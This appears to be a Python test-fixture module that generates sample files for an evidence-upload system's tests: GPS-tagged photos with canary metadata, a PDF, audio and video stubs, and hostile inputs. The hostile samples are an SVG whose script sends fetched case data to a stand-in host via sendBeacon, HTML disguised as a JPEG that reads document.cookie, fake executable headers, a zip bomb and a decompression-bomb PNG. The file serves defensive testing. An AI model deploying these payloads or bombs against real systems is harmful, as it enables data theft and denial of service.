"""Real files for the evidence tests, made on the spot: photos with GPS in their EXIF, a PDF,
recordings, and the hostile ones (SVG with script, HTML named .jpg, a zip bomb, a
decompression-bomb PNG, archives, a video in an audio container).

Every "canary" below is a string that must never be found in plaintext on disk, and never in
an image once its metadata has been stripped.
"""

from __future__ import annotations

import io
import math
import struct
import wave
import zipfile
import zlib

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

CANARY_CAMERA = "CANARY-CAMERA-Fatima-phone"
CANARY_COMMENT = b"CANARY-COMMENT-Fatima"
CANARY_XMP = b"CANARY-XMP-Fatima"
CANARY_PNG_TEXT = "CANARY-PNG-TEXT-Fatima"
CANARY_PDF = b"CANARY-PDF-TEXT-Fatima-Tazi"
CANARIES = (
    CANARY_CAMERA.encode(),
    CANARY_COMMENT,
    CANARY_XMP,
    CANARY_PNG_TEXT.encode(),
    CANARY_PDF,
    b"CANARY",
)

RED = (220, 20, 20)
BLUE = (20, 20, 220)
GPS_LATITUDE = (33.0, 35.0, 12.0)


def two_colour_image(width: int = 64, height: int = 48) -> Image.Image:
    """Left half red, right half blue: shows where the picture's left edge ended up."""
    image = Image.new("RGB", (width, height), BLUE)
    image.paste(RED, (0, 0, width // 2, height))
    return image


def exif_with_gps(*, orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "CANARY"
    exif[ExifTags.Base.Model] = CANARY_CAMERA
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (7.0, 36.0, 5.0)
    return exif


def jpeg_with_gps(*, orientation: int | None = 6) -> bytes:
    """A phone photo: EXIF with camera and GPS (rotated 90° by the orientation tag), a JPEG
    comment and an XMP packet, each carrying a canary."""
    out = io.BytesIO()
    two_colour_image().save(
        out,
        "JPEG",
        quality=95,
        exif=exif_with_gps(orientation=orientation),
        comment=CANARY_COMMENT,
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + CANARY_XMP + b"</x:xmpmeta>",
    )
    return out.getvalue()


def png_with_metadata() -> bytes:
    info = PngInfo()
    info.add_text("Comment", CANARY_PNG_TEXT)
    info.add_text("Author", CANARY_PNG_TEXT, zip=True)
    out = io.BytesIO()
    two_colour_image().save(out, "PNG", pnginfo=info, exif=exif_with_gps())
    return out.getvalue()


def webp_with_gps() -> bytes:
    out = io.BytesIO()
    two_colour_image().save(out, "WEBP", quality=90, exif=exif_with_gps())
    return out.getvalue()


def noisy_jpeg(size: int) -> bytes:
    """A JPEG of random noise at least ``size`` bytes long (noise does not compress)."""
    side = max(64, int(math.sqrt(size)))
    while True:
        out = io.BytesIO()
        Image.effect_noise((side, side), 120).convert("RGB").save(out, "JPEG", quality=100)
        if out.tell() >= size:
            return out.getvalue()
        side = int(side * 1.3)


def pdf_with_text(*, padding: int = 0) -> bytes:
    """A small valid PDF whose page shows a canary in plain text (uncompressed stream)."""
    stream = b"BT /F1 12 Tf 72 720 Td (" + CANARY_PDF + b") Tj ET"
    if padding:
        stream += b"\n%" + b"x" * padding
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def wav_recording() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as recording:
        recording.setnchannels(1)
        recording.setsampwidth(2)
        recording.setframerate(8000)
        recording.writeframes(b"\x00\x01" * 8000)
    return out.getvalue()


def mp3_recording(frames: int = 4) -> bytes:
    """MPEG-1 Layer III frames, 128 kbit/s, 44.1 kHz (417 bytes each), after an ID3 tag."""
    header = b"\xff\xfb\x90\x64"
    frame = header + b"\x00" * (417 - len(header))
    tag = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10
    return tag + frame * frames


def ogg_opus_recording() -> bytes:
    head = b"OpusHead" + bytes([1, 1]) + struct.pack("<HIhB", 312, 48000, 0, 0)
    page = (
        b"OggS" + bytes([0, 2]) + b"\x00" * 8 + struct.pack("<III", 1, 0, 0) + bytes([1, len(head)])
    )
    return page + head


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_file(*handlers: bytes, brand: bytes = b"M4A ") -> bytes:
    """An ISO base media file with one track per handler type (``soun``, ``vide``)."""
    ftyp = _box(b"ftyp", brand + b"\x00\x00\x02\x00" + brand + b"isom")
    tracks = b"".join(
        _box(
            b"trak",
            _box(b"mdia", _box(b"hdlr", b"\x00" * 8 + handler + b"\x00" * 12 + b"sound\x00")),
        )
        for handler in handlers
    )
    return ftyp + _box(b"moov", tracks) + _box(b"mdat", b"\x00" * 64)


def heic_photo() -> bytes:
    return _box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + _box(b"meta", b"\x00" * 32)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))"
    b"</script><rect width='10' height='10'/></svg>"
)
HTML_AS_JPEG = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 64
ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def zip_bomb(uncompressed: int = 64 * 1024 * 1024) -> bytes:
    """A ZIP archive holding ``uncompressed`` bytes of zeros in a few tens of kilobytes."""
    out = io.BytesIO()
    chunk = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("photo.jpg", "w", force_zip64=True) as member,
    ):
        for _ in range(uncompressed // len(chunk)):
            member.write(chunk)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(side: int) -> bytes:
    """A genuine, valid 1-bit PNG of ``side`` × ``side`` pixels, all black: megapixels (and
    hundreds of megabytes once decoded) in a file of a few kilobytes."""
    row = b"\x00" * (1 + (side + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(side)]
    parts.append(compressor.flush())
    idat = b"".join(parts)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )
